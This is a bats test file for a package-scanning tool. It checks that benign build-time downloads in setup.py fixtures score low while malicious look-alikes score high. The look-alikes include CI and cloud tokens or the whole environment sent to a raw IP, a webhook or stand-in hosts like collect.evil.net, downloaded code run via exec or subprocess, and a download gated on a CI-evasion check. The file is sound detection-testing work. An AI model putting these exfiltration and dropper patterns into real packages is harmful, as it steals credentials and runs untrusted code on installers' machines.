#!/usr/bin/env bats
# 46b-build-network.bats: benign network at build time (issue 11, classes 5 and 6): a
# credential sent to its own service, a configured registry as a download's base, a
# download checked against a pinned digest, a download behind an opt-in switch — each
# with the malicious variant that must still weigh in full.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg; }

# hits DIR DETECTION: "path line context score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.context) \(.score)"'
}

# tags DIR DETECTION: the tags of that detection's hits, one line per hit.
tags() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | .tags | join(",")'
}

# An updater that asks GitHub's API for the latest release, logging in with the CI token
# when there is one (xmlsec's setup.py).  $1: the call that sends it.
updater() {
	cat > pkg/setup.py <<PY
import os
from urllib.request import Request, urlopen
from setuptools import setup

def make_request(url, github_token=None):
    headers = {"User-Agent": "pkg"}
    if github_token:
        headers["authorization"] = "Bearer " + github_token
    return urlopen(Request(url, headers=headers)).read()

def latest_release(repo):
    api_url = "https://api.github.com/repos/{}/releases/latest".format(repo)
    token = os.environ.get("GH_TOKEN")
    return $1

latest_release("openssl/openssl")
setup(name="pkg")
PY
}

@test "a credential of the environment sent to the service it is for takes own_service" {
	updater 'make_request(api_url, token)'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 5'
	run tags pkg Exfiltration
	assert_output --partial 'own-service'
	updater 'make_request("https://uploads.github.com/x", os.environ["GITHUB_TOKEN"])'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 5'
}

@test "look-alike: the same token sent to a raw IP, a webhook or another service is exfiltration" {
	updater 'make_request("http://203.0.113.9/x", token)'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 150'
	updater 'make_request("https://discord.com/api/webhooks/1/abc", token)'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 150'
	updater 'make_request("https://registry.npmjs.org/x", token)'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 150'
}

@test "look-alike: another credential, or the whole environment with the token, to the service is exfiltration" {
	updater 'make_request(api_url, os.environ.get("AWS_SECRET_ACCESS_KEY"))'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 150'
	updater 'make_request(api_url, token + str(dict(os.environ)))'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 150'
	updater 'make_request(api_url, token + os.environ["NPM_TOKEN"])'
	run hits pkg Exfiltration
	assert_output 'setup.py 14 install 150'
}

# A build script that downloads from the registry the user configured (playwright's
# build_driver.py).  $1: how the URL is made.
registry() {
	cat > pkg/setup.py <<PY
import os, shutil, urllib.request
from setuptools import setup

NPM_REGISTRY = os.environ.get("npm_config_registry", "https://registry.npmjs.org").rstrip("/")

def download(url, destination):
    with urllib.request.urlopen(url) as response:
        with open(destination, "wb") as out:
            shutil.copyfileobj(response, out)

def fetch(version):
    $1
    download(url, "core-" + version + ".tgz")

fetch("1.0")
setup(name="pkg")
PY
}

@test "a destination variable at the start of a download's URL is the user's choice of server, not exfiltration" {
	registry 'url = f"{NPM_REGISTRY}/core/-/core-{version}.tgz"'
	run hits pkg Exfiltration
	assert_output ''
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 80'
	registry 'url = NPM_REGISTRY + "/core.tgz"'
	run hits pkg Exfiltration
	assert_output ''
	registry 'url = urllib.parse.urljoin(NPM_REGISTRY, "core.tgz")'
	run hits pkg Exfiltration
	assert_output ''
}

@test "look-alike: the same variable after a fixed host, or a credential in the URL, is exfiltration" {
	registry 'url = "https://203.0.113.9/c?r=" + NPM_REGISTRY'
	run hits pkg Exfiltration
	assert_output 'setup.py 13 install 150'
	registry 'url = f"https://collect.evil.net/{NPM_REGISTRY}"'
	run hits pkg Exfiltration
	assert_output 'setup.py 13 install 150'
	registry 'url = f"{NPM_REGISTRY}/core.tgz?t=" + os.environ["NPM_TOKEN"]'
	run hits pkg Exfiltration
	assert_output 'setup.py 13 install 150'
	# A credential is never a destination, whatever it ends with.
	registry 'url = os.environ.get("REGISTRY_TOKEN_URL") + "/x"'
	run hits pkg Exfiltration
	assert_output 'setup.py 13 install 150'
}

@test "look-alike: a destination variable sent as a request's body is exfiltration" {
	cat > pkg/setup.py <<'PY'
import os, requests
index = os.environ.get("PIP_INDEX_URL")
requests.post("https://collect.evil.net/x", data=index)
PY
	run hits pkg Exfiltration
	assert_output 'setup.py 3 install 150'
}

# A build that fetches a library's source and checks it against its pinned sha256.
# $1: what follows the download.
pinned() {
	cat > pkg/setup.py <<PY
import hashlib, tarfile, urllib.request
from setuptools import setup

SHA256 = {"linux": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}

def fetch(url):
    data = urllib.request.urlopen(url).read()
$1
    with open("lib.tar.gz", "wb") as f:
        f.write(data)

fetch("https://files.pkg-mirror.net/lib-1.0.tar.gz")
setup(name="pkg")
PY
}

@test "a download checked against a pinned digest before use weighs verified" {
	pinned '    if hashlib.sha256(data).hexdigest() != SHA256["linux"]:
        raise RuntimeError("checksum mismatch")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 10'
	run tags pkg NetworkRequest
	assert_output --partial 'verified'
	pinned '    assert hashlib.sha256(data).hexdigest() == "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"'
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 10'
}

@test "a digest check in a helper given the pin, or in the caller of the download, counts" {
	cat > pkg/setup.py <<'PY'
import hashlib, hmac, urllib.request
PIN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
def check(path, expected):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        h.update(f.read())
    return hmac.compare_digest(h.hexdigest(), expected)
def download(url, path):
    urllib.request.urlretrieve(url, path)
def fetch():
    download("https://files.pkg-mirror.net/t.tgz", "t.tgz")
    if not check("t.tgz", PIN):
        raise SystemExit("bad checksum")
fetch()
PY
	# the call of download() is the download too (rewrite: a def that only wraps one)
	run hits pkg NetworkRequest
	assert_output "$(printf 'setup.py 9 install 10\nsetup.py 11 install 10')"
}

@test "look-alike: a checksum compared after the download is run, or compared without failing, weighs in full" {
	pinned '    exec(data)
    if hashlib.sha256(data).hexdigest() != SHA256["linux"]:
        raise RuntimeError("checksum mismatch")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 80'
	run hits pkg RemoteCodeExecution
	assert_output 'setup.py 8 install 150'
	pinned '    if hashlib.sha256(data).hexdigest() == SHA256["linux"]:
        print("ok")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 80'
	# a "digest" that is no digest pins nothing
	pinned '    if hashlib.sha256(data).hexdigest() != "latest":
        raise RuntimeError("checksum mismatch")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 80'
}

@test "look-alike: a verified download that is then run keeps its RemoteCodeExecution in full" {
	pinned '    if hashlib.sha256(data).hexdigest() != SHA256["linux"]:
        raise RuntimeError("checksum mismatch")
    exec(data)'
	run hits pkg NetworkRequest
	assert_output 'setup.py 7 install 10'
	run hits pkg RemoteCodeExecution
	assert_output 'setup.py 10 install 150'
}

# A download behind an environment test.  $1: the test.
switched() {
	cat > pkg/setup.py <<PY
import os, sys, urllib.request
from setuptools import setup
from setuptools.command.build_ext import build_ext

class Build(build_ext):
    def run(self):
        self.static = $1
        if self.static:
            self.prepare_static_build()
        build_ext.run(self)

    def prepare_static_build(self):
        urllib.request.urlretrieve("https://files.pkg-mirror.net/lib.tar.gz", "lib.tar.gz")

setup(name="pkg", cmdclass={"build_ext": Build})
PY
}

@test "a download made only under an environment switch the user sets weighs opt_in" {
	switched 'os.environ.get("PKG_STATIC_DEPS", False)'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 10'
	run tags pkg NetworkRequest
	assert_output --partial 'opt-in'
	switched 'os.environ.get("PKG_STATIC_DEPS", "0").lower() in ("1", "true")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 10'
	switched '"PKG_STATIC_DEPS" in os.environ'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 10'
}

@test "look-alike: an evasion check, a CI variable, a default that is on, or an or with anything else is no switch" {
	switched 'not os.environ.get("CI")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 100'
	switched 'os.environ.get("GITHUB_ACTIONS")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 100'
	switched 'os.environ.get("PKG_DOWNLOAD", "1")'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 100'
	switched 'os.environ.get("PKG_STATIC_DEPS") or sys.platform == "win32"'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 100'
	switched 'os.environ.get("PKG_STATIC_DEPS") != "0"'
	run hits pkg NetworkRequest
	assert_output 'setup.py 13 install 100'
}

@test "look-alike: the download in the else of a switch runs by default" {
	cat > pkg/setup.py <<'PY'
import os, urllib.request
if os.environ.get("PKG_OFFLINE"):
    pass
else:
    urllib.request.urlretrieve("https://files.pkg-mirror.net/lib.tar.gz", "lib.tar.gz")
PY
	run hits pkg NetworkRequest
	assert_output 'setup.py 5 install 100'
}

@test "look-alike: a switched download that is then run keeps its Dropper in full" {
	cat > pkg/setup.py <<'PY'
import os, subprocess, urllib.request
if os.environ.get("PKG_STATIC_DEPS"):
    urllib.request.urlretrieve("https://files.pkg-mirror.net/tool", "/tmp/tool")
    subprocess.call(["/tmp/tool"])
PY
	run hits pkg NetworkRequest
	assert_output 'setup.py 3 install 10'
	run hits pkg Dropper
	assert_output 'setup.py 4 install 150'
}

@test "the verdict: the token to its own service stays below high; to a raw IP it is high" {
	updater 'make_request(api_url, token)'
	run --separate-stderr aura scan --format json pkg
	local v; v=$(verdict_of pkg)
	assert_jq "$v" '.risk == "medium" or .risk == "low" or .risk == "info"'
	updater 'make_request("http://203.0.113.9/x", token)'
	run --separate-stderr aura scan --format json pkg
	v=$(verdict_of pkg)
	assert_jq "$v" '.risk == "high" or .risk == "critical"'
}

@test "the rules file's network block is checked when it is loaded" {
	printf 'version: 1\nnetwork:\n  credential_services:\n    - env: [X_TOKEN]\n' > bad.yaml
	run --separate-stderr aura-analyze --rules bad.yaml </dev/null
	assert_failure
	[[ "$stderr" == *'credential_services: a row needs env and hosts'* ]] || fail "stderr: $stderr"
	printf 'version: 1\nnetwork:\n  hosts: [x]\n' > bad.yaml
	run --separate-stderr aura-analyze --rules bad.yaml </dev/null
	assert_failure
	[[ "$stderr" == *"network: unknown key 'hosts'"* ]] || fail "stderr: $stderr"
}

# A build that fetches a library's source tarball and unpacks it to compile it (pycapnp's
# buildutils/bundle.py).  $1: what follows the unpacking.
tarball() {
	cat > pkg/setup.py <<PY
import os, subprocess, sys, tarfile
from urllib.request import urlopen

def fetch_archive(savedir, url):
    req = urlopen(url)
    dest = os.path.join(savedir, "lib.tar.gz")
    with open(dest, "wb") as f:
        f.write(req.read())
    return dest

def fetch_lib(savedir, url):
    fname = fetch_archive(savedir, url)
    tarfile.open(fname).extractall(savedir)
$1

fetch_lib("bundled", "https://lib.pkg-mirror.net/lib-1.0.tar.gz")
PY
}

@test "a download only unpacked afterwards weighs extracted" {
	tarball ''
	run hits pkg NetworkRequest
	assert_output 'setup.py 5 install 50'
	run tags pkg NetworkRequest
	assert_output --partial 'extracted'
}

@test "look-alike: an unpacked download whose script is then run, or imported, weighs in full" {
	tarball '    subprocess.call([os.path.join(savedir, "lib", "install.sh")])'
	run hits pkg NetworkRequest
	assert_output 'setup.py 5 install 80'
	tarball '    sys.path.insert(0, savedir)'
	run hits pkg NetworkRequest
	assert_output 'setup.py 5 install 80'
	# fetched and run without unpacking: the Dropper flow, and no relief
	cat > pkg/setup.py <<'PY'
import subprocess
from urllib.request import urlretrieve
urlretrieve("https://lib.pkg-mirror.net/tool", "/tmp/tool")
subprocess.call(["/tmp/tool"])
PY
	run hits pkg NetworkRequest
	assert_output 'setup.py 3 install 100'
	run hits pkg Dropper
	assert_output 'setup.py 4 install 150'
}

@test "look-alike: the token in the query string of a fixed host that is not its service is exfiltration" {
	cat > pkg/setup.py <<'PY'
import os, urllib.request
token = os.environ.get("GITHUB_TOKEN")
urllib.request.urlopen("https://collect.ci-status.net/x?t=" + token)
urllib.request.urlopen("https://api.github.com/x?t=" + token)
PY
	run hits pkg Exfiltration
	assert_output "$(printf 'setup.py 3 install 150\nsetup.py 4 install 5')"
}
